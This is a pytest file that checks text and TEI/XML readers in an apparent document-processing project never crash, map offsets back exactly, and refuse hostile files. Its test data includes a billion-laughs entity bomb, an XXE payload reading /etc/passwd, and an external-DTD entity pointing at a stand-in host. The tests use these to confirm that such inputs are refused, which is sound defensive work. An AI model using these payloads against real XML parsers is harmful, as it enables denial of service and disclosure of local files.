"""No reader crashes, and every reading-text offset maps back exactly, whatever the input.

Property tests (hypothesis, bounded) run arbitrary text and mutated real inputs (the seed, the
JFK OCR fixtures, the FRUS TEI fixture) through every reader; hostile files (empty, binary,
invalid UTF-8, 100 MB, billion laughs, external entities) give a clear per-file `ReadError`.
What reading costs is counted (function calls, allocated memory), never timed: the time per
megabyte is measured in benchmarks/bench_large_source.py.
"""
from __future__ import annotations

import socket
import sys
import tracemalloc
from contextlib import contextmanager
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import kg.reading as reading
from kg.reading import ReadError, read_file, read_text, readers

ROOT = Path(__file__).resolve().parents[2]
SEED = ROOT / "seeds" / "000_518769ec419a4fc7.txt"
JFK = sorted((ROOT / "tests" / "fixtures" / "jfk").glob("*.md"))
TEI = ROOT / "tests" / "fixtures" / "tei" / "frus_memcon_d84.xml"

SOURCES = {p.name: p.read_text(encoding="utf-8") for p in [SEED, TEI, *JFK]}
PROPS = settings(max_examples=150, deadline=None,
                 suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


# --- the invariants -------------------------------------------------------------------------


def check_transcript(t, pairs=()) -> None:
    """The TextBuilder invariants and exact evidence for every layer and the pairs asked."""
    raw, text, raw_at = t.raw, t.text, t.raw_at
    assert len(text) == len(raw_at)
    assert all(0 <= r <= len(raw) for r in raw_at)
    # reading order is raw order: no reader moves text around
    assert all(raw_at[k] <= raw_at[k + 1] for k in range(len(raw_at) - 1))
    for k, c in enumerate(text):
        r = raw_at[k]
        if r < len(raw) and raw[r] == c:
            continue
        # not copied: a separator the reader put in, or (TEI) the character of a reference
        assert c.isspace() or (t.reader == "tei" and raw[r] == "&"), (k, c, raw[r:r + 10])
    if t.reader == "plaintext":
        # plain OCR: nothing synthetic but a lone CR, which reads as a line end
        assert all(raw[r] == c or (c, raw[r]) == ("\n", "\r") for c, r in zip(text, raw_at))
    for ln in t.lines:
        assert 0 <= ln.start <= ln.end <= len(text)
    last = 0
    for a, b in t.paragraphs:
        assert last <= a < b <= len(text)
        last = b
    assert 0 <= t.body_start <= len(text)
    for blk in t.blocks:
        assert raw[blk.raw.start:blk.raw.end] == blk.raw.exact
    for m in t.markup:
        assert raw[m.raw.start:m.raw.end] == m.raw.exact
        assert raw[m.inner.start:m.inner.end] == m.inner.exact
    n = len(text)
    spans = list(pairs) + [(0, n)] + [(ln.start, ln.end) for ln in t.lines[:200]] + t.paragraphs[:200]
    for i, j in spans:
        i, j = sorted((min(i, n), min(j, n)))
        s = t.span(i, j)
        assert raw[s.start:s.end] == s.exact
        assert s.exact == s.exact.strip() or not s.exact.strip()


def read_with(reader, raw: str):
    """Read with one reader; a TEI refusal must be a ReadError, nothing else may escape."""
    try:
        return reader.read("x", raw)
    except ReadError as exc:
        assert reader.name == "tei", f"{reader.name} refused text: {exc}"
        assert str(exc)
        return None


# --- property tests -----------------------------------------------------------------------

TOKENS = ["~~", "<sup>", "</sup>", "*", "**", "_", "##", "## Page 3", "# ", "---", "\n", "\n\n",
          "\r\n", "\r", "\t", "\x00", "\x0c", "\x1b", "\u200b", "\ufeff", "\u0130", "ß", "ﬁ",
          "😀", "\u0301", "SECRET", "S E C R E T", "EVES ONLY", "- 2 -", "[REDACTED]", "&amp;",
          "&", "&#8217;", "<", ">", "<p>", "</p>", "<note type=\"source\">", "</note>", "<!--",
          "-->", "<pb/>", "]]>", "<![CDATA[", "\"", "'", "IDENTIFICATION FORM", "\u2028"]

mutation = st.tuples(st.sampled_from(["insert", "delete"]), st.floats(0, 1),
                     st.one_of(st.sampled_from(TOKENS), st.text(max_size=6)), st.integers(1, 40))


def mutate(raw: str, edits) -> str:
    for op, where, token, length in edits:
        at = int(where * len(raw))
        raw = raw[:at] + token + raw[at:] if op == "insert" else raw[:at] + raw[at + length:]
    return raw


pair = st.tuples(st.integers(0, 10**6), st.integers(0, 10**6))


@PROPS
@given(st.text(max_size=400), st.lists(pair, max_size=8))
def test_arbitrary_text_never_crashes_a_reader_and_maps_back_exactly(raw, pairs):
    for reader in readers():
        t = read_with(reader, raw)
        if t is not None:
            check_transcript(t, pairs)


@PROPS
@given(st.sampled_from(sorted(SOURCES)), st.lists(mutation, min_size=1, max_size=12),
       st.lists(pair, max_size=8))
def test_mutated_real_inputs_never_crash_a_reader_and_map_back_exactly(name, edits, pairs):
    raw = mutate(SOURCES[name], edits)
    for reader in readers():
        t = read_with(reader, raw)
        if t is not None:
            check_transcript(t, pairs)


@PROPS
@given(st.sampled_from(sorted(SOURCES)), st.lists(mutation, max_size=6))
def test_the_reader_chosen_by_content_reads_or_refuses_clearly(name, edits):
    raw = mutate(SOURCES[name], edits)
    try:
        t = read_text(name, raw)
    except ReadError as exc:
        assert name in str(exc)
        return
    check_transcript(t)


@pytest.mark.parametrize("name", sorted(SOURCES))
def test_the_real_inputs_themselves_satisfy_the_invariants(name):
    check_transcript(read_text(name, SOURCES[name]))


# --- hostile files ------------------------------------------------------------------------


@pytest.mark.parametrize("data, message", [
    (b"", "empty"),
    (b"  \n\n\t \n", "empty"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00", "a PNG image.*run OCR"),
    (b"GIF89a\x01\x00" + bytes(range(256)), "a GIF image"),
    ("Memorandum of Conversation\n".encode() * 500 + b"\x00\x01", r"NUL byte at byte 13500"),
    ("SECRET\nMemorandum of Conversation\n".encode("utf-8") + b"\xff\xfe broken \xc3\x28", "not valid UTF-8"),
    ("SECRET".encode("utf-16"), "UTF-16"),
    (bytes(range(1, 32)) * 50, "control characters"),
])
def test_files_that_are_not_text_give_a_clear_read_error(tmp_path, data, message):
    path = tmp_path / "bad.md"
    path.write_bytes(data)
    with pytest.raises(ReadError, match=message) as exc:
        read_file(path)
    assert "bad.md" in str(exc.value)


def test_a_100_mb_file_is_refused_without_reading_it_into_memory(tmp_path):
    path = tmp_path / "huge.md"
    with path.open("wb") as fh:                     # sparse: costs no disk and no time
        fh.truncate(100 * 1024 * 1024)
    tracemalloc.start()
    try:
        with pytest.raises(ReadError, match="limit") as exc:
            read_file(path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "huge.md" in str(exc.value) and "split the file" in str(exc.value)
    assert peak < 5 * 1024 * 1024


def test_the_size_limit_holds_even_when_the_read_goes_past_it(tmp_path, monkeypatch):
    monkeypatch.setattr(reading, "MAX_BYTES", 1000)
    path = tmp_path / "big.md"
    path.write_text("SECRET\n" * 300, encoding="utf-8")
    with pytest.raises(ReadError, match="limit of 1,000 bytes"):
        read_file(path)


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero")
def test_a_device_that_says_size_zero_is_read_no_further_than_the_limit():
    with pytest.raises(ReadError, match="than the limit of 1,000 bytes"):
        read_file(Path("/dev/zero"), max_bytes=1000)


def test_a_small_file_takes_memory_for_itself_not_for_the_limit(tmp_path):
    path = tmp_path / "small.md"
    path.write_text(SOURCES[SEED.name], encoding="utf-8")
    read_file(path)                                         # imports and caches warmed up
    tracemalloc.start()
    try:
        read_file(path, max_bytes=256 * 1024 * 1024)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 64 * len(SOURCES[SEED.name]) + 1024 * 1024


def test_a_directory_is_a_read_error_not_a_crash(tmp_path):
    with pytest.raises(ReadError, match="cannot"):
        read_file(tmp_path)


@contextmanager
def no_network():
    """Every attempt to resolve or reach a host while inside, recorded and refused."""
    attempts: list = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("no network in this test")

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(socket, "getaddrinfo", refuse)
        mp.setattr(socket.socket, "connect", refuse)
        yield attempts


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE TEI [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>&lol9;</p></body></text></TEI>
"""

XXE_FILE = """<?xml version="1.0"?>
<!DOCTYPE TEI [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>&xxe;</p></body></text></TEI>
"""

XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE TEI [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>x</p></body></text></TEI>
"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, XXE_FILE, XXE_PARAMETER],
                         ids=["billion-laughs", "xxe-file", "xxe-parameter-entity"])
def test_entity_tricks_in_xml_are_refused_quickly_with_a_clear_error(tmp_path, xml):
    path = tmp_path / "evil.xml"
    path.write_text(xml, encoding="utf-8")
    tracemalloc.start()
    try:
        with no_network() as attempts, pytest.raises(ReadError, match="entit") as exc:
            read_file(path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 5 * 1024 * 1024                       # refused before any entity is expanded
    assert attempts == []
    assert "evil.xml" in str(exc.value)
    assert "root:" not in str(exc.value)                # nothing of /etc/passwd leaks


def test_an_external_dtd_is_never_fetched(tmp_path):
    xml = TEI.read_text(encoding="utf-8").replace(
        "<TEI ", '<!DOCTYPE TEI SYSTEM "http://example.invalid/tei_all.dtd">\n<TEI ', 1)
    path = tmp_path / "doctype.xml"
    path.write_text(xml, encoding="utf-8")
    with no_network() as attempts:
        t = read_file(path)
    assert attempts == []
    assert t.metadata["tei"]["doc_id"] == "d84"


def test_deeply_nested_xml_is_refused_not_a_recursion_crash(tmp_path):
    path = tmp_path / "deep.xml"
    path.write_text('<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body>' + "<hi>" * 5000 + "x"
                    + "</hi>" * 5000 + "</body></text></TEI>", encoding="utf-8")
    with pytest.raises(ReadError, match="nested"):
        read_file(path)


def ocr_compilation(path: Path, size: int) -> Path:
    """``size`` characters of the JFK OCR fixtures one after another, as one file."""
    body = "\n\n".join(SOURCES[p.name] for p in JFK)
    path.write_text((body * (size // len(body) + 1))[:size], encoding="utf-8")
    return path


def work_and_memory(path: Path) -> tuple[int, int]:
    """What reading ``path`` costs, counted and not timed: the function calls made (Python and
    built-in: each regex search is one) and the peak of memory allocated."""
    calls = 0

    def count(frame, event, arg):
        nonlocal calls
        calls += event in ("call", "c_call")

    sys.setprofile(count)
    try:
        read_file(path)
    finally:
        sys.setprofile(None)
    tracemalloc.start()
    try:
        read_file(path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return calls, peak


def test_reading_does_work_and_takes_memory_in_proportion_to_the_text(tmp_path):
    # a loop that rescans the text for every line or paragraph would make four times the text
    # cost sixteen times the calls; the time per megabyte is in benchmarks/bench_large_source.py
    small_calls, small_peak = work_and_memory(ocr_compilation(tmp_path / "small.md", 150_000))
    large_calls, large_peak = work_and_memory(ocr_compilation(tmp_path / "large.md", 600_000))
    assert large_calls < 4.4 * small_calls
    assert large_peak < 4.4 * small_peak
    assert large_peak < 64 * 600_000        # text, reading text and offset map: bytes a character


def test_a_several_megabyte_ocr_file_is_read_whole_with_exact_paragraphs(tmp_path):
    path = ocr_compilation(tmp_path / "compilation.md", 2_000_000)
    t = read_file(path)
    assert t.reader == "plaintext" and len(t.paragraphs) > 100
    assert t.raw_at.itemsize == 4                       # the offset map: 4 bytes a character
    for a, b in t.paragraphs[::50]:
        s = t.span(a, b)
        words = t.text[a:b].split()
        assert t.raw[s.start:s.end] == s.exact
        assert s.exact.startswith(words[0]) and s.exact.endswith(words[-1])


XML_CHARS = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\ufffe\uffff",
                          min_codepoint=9).filter(lambda c: c in "\t\n\r" or ord(c) >= 32)


@PROPS
@given(st.text(XML_CHARS, max_size=200), st.lists(pair, max_size=8))
def test_any_paragraph_text_in_tei_reads_back_as_itself_with_exact_evidence(words, pairs):
    from xml.sax.saxutils import escape

    encoded = escape(words, {'"': "&quot;", "’": "&#8217;"})
    raw = SOURCES[TEI.name].replace("The conversation ended at 9:30 p.m.", encoded)
    t = read_text("t.xml", raw)
    assert t.reader == "tei"
    check_transcript(t, pairs)
    last = t.text[t.paragraphs[-1][0]:t.paragraphs[-1][1]] if words.split() else ""
    assert " ".join(last.split()) == " ".join(words.split())


def test_kg_build_max_bytes_refuses_a_larger_source_in_every_worker_and_names_the_limit(tmp_path):
    import os

    from click.testing import CliRunner

    from kg.cli import main

    small, big = tmp_path / "src" / "a_small.txt", tmp_path / "src" / "b_big.txt"
    small.parent.mkdir()
    memos = ROOT / "tests" / "fixtures" / "memos"
    small.write_bytes((memos / "embassy_memcon_the_ambassador.txt").read_bytes())   # 510 bytes
    big.write_bytes((memos / "frus_style_memcon.txt").read_bytes())                 # 1,144 bytes
    runner = CliRunner()
    limited = runner.invoke(main, ["build", str(small.parent), "--out", str(tmp_path / "out"),
                                   "--jobs", "2", "--no-store", "--max-bytes", "1000"])
    assert limited.exit_code == 1
    assert (f"b_big.txt: {big.stat().st_size:,} bytes, more than the limit of 1,000 bytes a "
            "document") in limited.output
    assert "1 of 2 documents published" in limited.output
    assert reading.MAX_BYTES_ENV not in os.environ          # the limit was the command's only
    raised = runner.invoke(main, ["build", str(small.parent), "--out", str(tmp_path / "out2"),
                                  "--jobs", "1", "--no-store", "--max-bytes", "1000000"])
    assert raised.exit_code == 0 and "2 of 2 documents published" in raised.output
